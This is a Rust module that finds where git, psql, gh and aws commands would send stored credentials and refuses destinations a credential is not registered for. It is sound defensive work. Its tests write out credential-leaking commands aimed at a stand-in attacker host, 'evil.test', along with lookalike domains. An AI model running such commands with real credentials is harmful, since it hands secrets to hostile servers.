//! Where a credentialed command would send its credentials, and whether the credential is for
//! there.
//!
//! An outside review ran `git ls-remote <any url>` and `psql -h <any host>` with stored
//! credentials and saw them arrive in clear at a server of its own (issue 35). So each credential
//! names its destinations (`--destination HOST[:PORT][/PATH]`, `*.example.com` for a domain's
//! hosts; presets carry defaults such as the forge's hosts for `gh`), every destination a command
//! names is found before it runs — URLs among the arguments, `psql`'s hosts (`-h`, conninfo,
//! URIs, `PGHOST`), `gh`'s `--hostname`, `aws`'s `--endpoint-url`, the remotes a `git` command
//! reaches (from the pinned repository's configuration) — and a command that would reach one its
//! credential is not for is refused. A command that names none goes where the program goes by
//! itself (the forge for `gh`, the credential's `PGHOST` for `psql`).

use std::fmt;

use super::Refusal;

/// One place a credential may be sent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Destination {
    /// Lower-case host, or `*.domain` for every host below the domain.
    host: String,
    port: Option<u16>,
    /// A path prefix (`/org/`), for URLs.
    path: Option<String>,
}

impl Destination {
    /// Parses `host`, `host:port`, `host/path`, `host:port/path` or `*.domain`.
    pub fn parse(text: &str) -> Result<Self, String> {
        let text = text.trim();
        let bad = || {
            format!(
                "destination {text:?}: give a host, optionally with :PORT and /PATH (github.com, db.internal:5432, *.amazonaws.com, git.example.com/team/)"
            )
        };
        let text = text
            .strip_prefix("https://")
            .or_else(|| text.strip_prefix("http://"))
            .unwrap_or(text);
        let (authority, path) = match text.find('/') {
            Some(i) => (&text[..i], Some(text[i..].to_string())),
            None => (text, None),
        };
        let (host, port) = match authority.rsplit_once(':') {
            Some((h, p)) if !h.contains(':') || h.starts_with('[') => {
                (h, Some(p.parse::<u16>().map_err(|_| bad())?))
            }
            _ => (authority, None),
        };
        let host = host.trim_matches(['[', ']']).to_ascii_lowercase();
        let name = host.strip_prefix("*.").unwrap_or(&host);
        if name.is_empty()
            || !name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"-._:".contains(&b))
        {
            return Err(bad());
        }
        Ok(Self { host, port, path })
    }

    fn covers(&self, target: &Target) -> bool {
        let host_ok = match self.host.strip_prefix("*.") {
            Some(domain) => target
                .host
                .strip_suffix(domain)
                .is_some_and(|rest| rest.ends_with('.')),
            None => self.host == target.host,
        };
        let port_ok = match (self.port, target.port) {
            (None, _) => true,
            (Some(want), Some(got)) => want == got,
            (Some(_), None) => false,
        };
        let path_ok = match (&self.path, &target.path) {
            (None, _) => true,
            (Some(prefix), Some(path)) => path.starts_with(prefix.as_str()),
            (Some(_), None) => false,
        };
        host_ok && port_ok && path_ok
    }
}

impl fmt::Display for Destination {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.host)?;
        if let Some(port) = self.port {
            write!(f, ":{port}")?;
        }
        if let Some(path) = &self.path {
            f.write_str(path)?;
        }
        Ok(())
    }
}

/// A place a command would connect to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    pub host: String,
    pub port: Option<u16>,
    pub path: Option<String>,
    /// How the command names it (shown in the refusal).
    pub named: String,
}

impl Target {
    fn new(host: &str, port: Option<u16>, path: Option<&str>, named: &str) -> Self {
        Self {
            host: host.trim_matches(['[', ']']).to_ascii_lowercase(),
            port,
            path: path.map(str::to_string),
            named: named.to_string(),
        }
    }
}

/// The host, port and path of `text` when it is a URL (`scheme://[user@]host[:port]/path`) or
/// an scp-like git address (`user@host:path`).
pub(crate) fn url_target(text: &str) -> Option<Target> {
    if let Some(url) = talon_net::url_parts(text) {
        let (host, port) = split_port(url.host_port);
        if host.is_empty() {
            // `file:///…`: a local path, no destination.
            return None;
        }
        let path = url.rest.split(['?', '#']).next().unwrap_or("");
        return Some(Target::new(host, port, Some(path), text));
    }
    // scp-like: `[user@]host:path`, with no slash before the colon.
    let (before, path) = text.split_once(':')?;
    if before.contains('/') || before.is_empty() || path.starts_with("//") {
        return None;
    }
    let host = before.rsplit('@').next().unwrap_or(before);
    (host.contains('.') || before.contains('@'))
        .then(|| Target::new(host, None, Some(&format!("/{path}")), text))
}

fn split_port(authority: &str) -> (&str, Option<u16>) {
    if let Some(rest) = authority.strip_prefix('[') {
        let (host, after) = rest.split_once(']').unwrap_or((rest, ""));
        return (host, after.strip_prefix(':').and_then(|p| p.parse().ok()));
    }
    match authority.rsplit_once(':') {
        Some((host, port)) => match port.parse() {
            Ok(port) => (host, Some(port)),
            Err(_) => (authority, None),
        },
        None => (authority, None),
    }
}

/// The value of option `-s`/`--long` at `args[i]` (`-hX`, `-h X`, `--host=X`, `--host X`).
fn option_value<'a>(
    args: &'a [String],
    i: usize,
    short: Option<char>,
    long: &str,
) -> Option<&'a str> {
    let a = args[i].as_str();
    if let Some(v) = a.strip_prefix(&format!("--{long}=")) {
        return Some(v);
    }
    if a == format!("--{long}") {
        return args.get(i + 1).map(String::as_str);
    }
    let s = short?;
    if a == format!("-{s}") {
        return args.get(i + 1).map(String::as_str);
    }
    a.strip_prefix(&format!("-{s}"))
        .filter(|v| !v.is_empty() && !a.starts_with("--"))
}

/// The hosts of a libpq connection string (`host=a,b port=5432 dbname=x`) or URI.
fn libpq_targets(text: &str, out: &mut Vec<Target>) {
    if text.starts_with("postgres://") || text.starts_with("postgresql://") {
        let rest = text.split_once("://").map_or("", |(_, r)| r);
        let end = rest.find(['/', '?']).unwrap_or(rest.len());
        let hosts = rest[..end].rsplit('@').next().unwrap_or("");
        for host in hosts.split(',').filter(|h| !h.is_empty()) {
            let (h, p) = split_port(host);
            out.push(Target::new(h, p, None, text));
        }
        // `?host=…` in the query overrides.
        if let Some((_, query)) = rest.split_once('?') {
            for pair in query.split('&') {
                if let Some(("host" | "hostaddr", v)) = pair.split_once('=') {
                    push_hosts(v, out, text);
                }
            }
        }
        return;
    }
    if text.contains('=') {
        for pair in text.split_whitespace() {
            if let Some(("host" | "hostaddr", v)) = pair.split_once('=') {
                push_hosts(v.trim_matches('\''), out, text);
            }
        }
    }
}

fn push_hosts(list: &str, out: &mut Vec<Target>, named: &str) {
    for host in list.split(',').filter(|h| !h.is_empty()) {
        if host.starts_with('/') {
            out.push(Target::new("localhost", None, None, named));
        } else {
            out.push(Target::new(host, None, None, named));
        }
    }
}

/// Whether a libpq connection argument picks a service (whose file names the host).
fn names_service(text: &str) -> bool {
    text.split_whitespace().any(|p| p.starts_with("service="))
        || text.contains("?service=")
        || text.contains("&service=")
}

/// Every destination `args` of credentialed `binary` name, with the credential's environment
/// `env`; `remotes` are the URLs of the pinned repository's remotes (git's network commands
/// reach them when they name no URL).
pub(crate) fn targets(
    binary: &str,
    args: &[String],
    env: &[(String, String)],
    remotes: &[String],
) -> Result<Vec<Target>, Refusal> {
    let mut out: Vec<Target> = Vec::new();
    let env_of = |name: &str| env.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
    match binary {
        "psql" => {
            // Options that take a value; a separate value is not an operand.
            const VALUED: &[char] = &[
                'c', 'd', 'f', 'h', 'L', 'o', 'p', 'P', 'R', 'T', 'U', 'v', 'F',
            ];
            let mut i = 0;
            while i < args.len() {
                let a = &args[i];
                if let Some(host) = option_value(args, i, Some('h'), "host") {
                    push_hosts(host, &mut out, a);
                }
                if let Some(db) = option_value(args, i, Some('d'), "dbname") {
                    if names_service(db) {
                        return Err(refusal(
                            binary,
                            a,
                            "a service is looked up in a file that names its own host",
                        ));
                    }
                    libpq_targets(db, &mut out);
                }
                if !a.starts_with('-') {
                    if names_service(a) {
                        return Err(refusal(
                            binary,
                            a,
                            "a service is looked up in a file that names its own host",
                        ));
                    }
                    libpq_targets(a, &mut out);
                }
                let separate = a.len() == 2
                    && a.starts_with('-')
                    && a[1..].chars().next().is_some_and(|c| VALUED.contains(&c));
                let long_separate = a.starts_with("--")
                    && !a.contains('=')
                    && matches!(
                        &a[2..],
                        "command"
                            | "dbname"
                            | "file"
                            | "host"
                            | "log-file"
                            | "output"
                            | "port"
                            | "pset"
                            | "record-separator"
                            | "table-attr"
                            | "username"
                            | "set"
                            | "variable"
                            | "field-separator"
                    );
                i += if separate || long_separate { 2 } else { 1 };
            }
            if out.is_empty()
                && let Some(host) = env_of("PGHOST").or_else(|| env_of("PGHOSTADDR"))
            {
                push_hosts(host, &mut out, "PGHOST");
            }
        }
        "gh" => {
            for (i, a) in args.iter().enumerate() {
                if let Some(host) = option_value(args, i, None, "hostname") {
                    out.push(Target::new(host, None, None, a));
                }
            }
        }
        "aws" => {
            for i in 0..args.len() {
                if let Some(url) = option_value(args, i, None, "endpoint-url")
                    && let Some(t) = url_target(url)
                {
                    out.push(t);
                }
            }
        }
        _ => {}
    }
    // Any URL among the arguments is a destination (`git ls-remote URL`, `gh api https://…`).
    for a in args {
        let value = a
            .split_once('=')
            .map_or(a.as_str(), |(k, v)| if k.starts_with('-') { v } else { a });
        // An scp-like `host:path` is an address only where git connects: elsewhere
        // `v1.2:README.md` is a revision and a path.
        let scp_like = binary == "git" && git_reaches_remotes(args);
        if let Some(t) = url_target(value)
            && (scp_like || value.contains("://"))
        {
            out.push(t);
        }
    }
    if binary == "git" && out.is_empty() && git_reaches_remotes(args) {
        out.extend(remotes.iter().filter_map(|url| url_target(url)));
    }
    let mut unique: Vec<Target> = Vec::with_capacity(out.len());
    for target in out {
        if !unique.iter().any(|u| {
            u.host == target.host
                && u.port == target.port
                && (u.path == target.path || u.path.is_none())
        }) {
            unique.push(target);
        }
    }
    Ok(unique)
}

/// git subcommands that connect to a remote.
fn git_reaches_remotes(args: &[String]) -> bool {
    let sub = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .map(String::as_str);
    matches!(
        sub,
        Some(
            "fetch"
                | "pull"
                | "push"
                | "ls-remote"
                | "remote"
                | "submodule"
                | "clone"
                | "archive"
                | "fetch-pack"
                | "send-pack"
        )
    ) || args.iter().any(|a| a.starts_with("--recurse-submodules"))
}

fn refusal(binary: &str, arg: &str, why: &str) -> Refusal {
    Refusal::Destination {
        binary: binary.to_string(),
        named: arg.to_string(),
        why: why.to_string(),
    }
}

/// Refuses `targets` that `destinations` do not cover.
pub(crate) fn check(
    binary: &str,
    targets: &[Target],
    destinations: &[Destination],
) -> Result<(), Refusal> {
    for target in targets {
        if destinations.iter().any(|d| d.covers(target)) {
            continue;
        }
        let allowed: Vec<String> = destinations.iter().map(ToString::to_string).collect();
        let why = if allowed.is_empty() {
            format!(
                "it would send the stored credentials to {}, and this credential names no destinations (an operator adds them: talon cli-credentials add {binary} --destination HOST)",
                target.host
            )
        } else {
            format!(
                "it would send the stored credentials to {}{}, but this credential is only for {}",
                target.host,
                target.port.map(|p| format!(":{p}")).unwrap_or_default(),
                allowed.join(", ")
            )
        };
        return Err(refusal(binary, &target.named, &why));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(line: &str) -> Vec<String> {
        line.split(' ').map(str::to_string).collect()
    }

    fn dests(list: &[&str]) -> Vec<Destination> {
        list.iter()
            .map(|d| Destination::parse(d).unwrap())
            .collect()
    }

    #[test]
    fn destinations_parse_and_cover() {
        let d = dests(&[
            "github.com",
            "db.internal:5432",
            "*.amazonaws.com",
            "git.example.com/team/",
        ]);
        let t = |h: &str, p: Option<u16>, path: Option<&str>| Target::new(h, p, path, h);
        assert!(d[0].covers(&t("github.com", Some(443), Some("/x"))));
        assert!(!d[0].covers(&t("github.com.evil.test", None, None)));
        assert!(d[1].covers(&t("db.internal", Some(5432), None)));
        assert!(!d[1].covers(&t("db.internal", Some(5433), None)));
        assert!(d[2].covers(&t("s3.amazonaws.com", None, None)));
        assert!(!d[2].covers(&t("amazonaws.com.evil.test", None, None)));
        assert!(d[3].covers(&t("git.example.com", None, Some("/team/repo.git"))));
        assert!(!d[3].covers(&t("git.example.com", None, Some("/other/repo.git"))));
        assert!(Destination::parse("bad host").is_err());
    }

    #[test]
    fn commands_name_their_destinations() {
        let hosts =
            |binary: &str, line: &str, env: &[(&str, &str)], remotes: &[&str]| -> Vec<String> {
                let env: Vec<(String, String)> = env
                    .iter()
                    .map(|(a, b)| (a.to_string(), b.to_string()))
                    .collect();
                let remotes: Vec<String> = remotes.iter().map(|r| r.to_string()).collect();
                targets(binary, &args(line), &env, &remotes)
                    .unwrap()
                    .into_iter()
                    .map(|t| t.host)
                    .collect()
            };
        assert_eq!(
            hosts("git", "ls-remote https://evil.test/x.git", &[], &[]),
            ["evil.test"]
        );
        assert_eq!(
            hosts("git", "fetch origin", &[], &["git@github.com:o/r.git"]),
            ["github.com"]
        );
        assert!(hosts("git", "log --oneline", &[], &["https://evil.test/r"]).is_empty());
        assert!(hosts("git", "show v1.2:README.md", &[], &[]).is_empty());
        assert_eq!(
            hosts("git", "fetch git@evil.test:o/r.git", &[], &[]),
            ["evil.test"]
        );
        assert_eq!(
            hosts("psql", "-h evil.test -c select", &[], &[]),
            ["evil.test"]
        );
        assert_eq!(
            hosts("psql", "postgresql://u@evil.test:5432/db", &[], &[]),
            ["evil.test"]
        );
        assert_eq!(hosts("psql", "-d host=evil.test", &[], &[]), ["evil.test"]);
        assert_eq!(
            hosts("psql", "-c select", &[("PGHOST", "db.internal")], &[]),
            ["db.internal"]
        );
        assert_eq!(
            hosts("gh", "api --hostname evil.test user", &[], &[]),
            ["evil.test"]
        );
        assert_eq!(
            hosts("aws", "s3 ls --endpoint-url=https://evil.test", &[], &[]),
            ["evil.test"]
        );
        assert!(targets("psql", &args("service=x"), &[], &[]).is_err());
    }
}
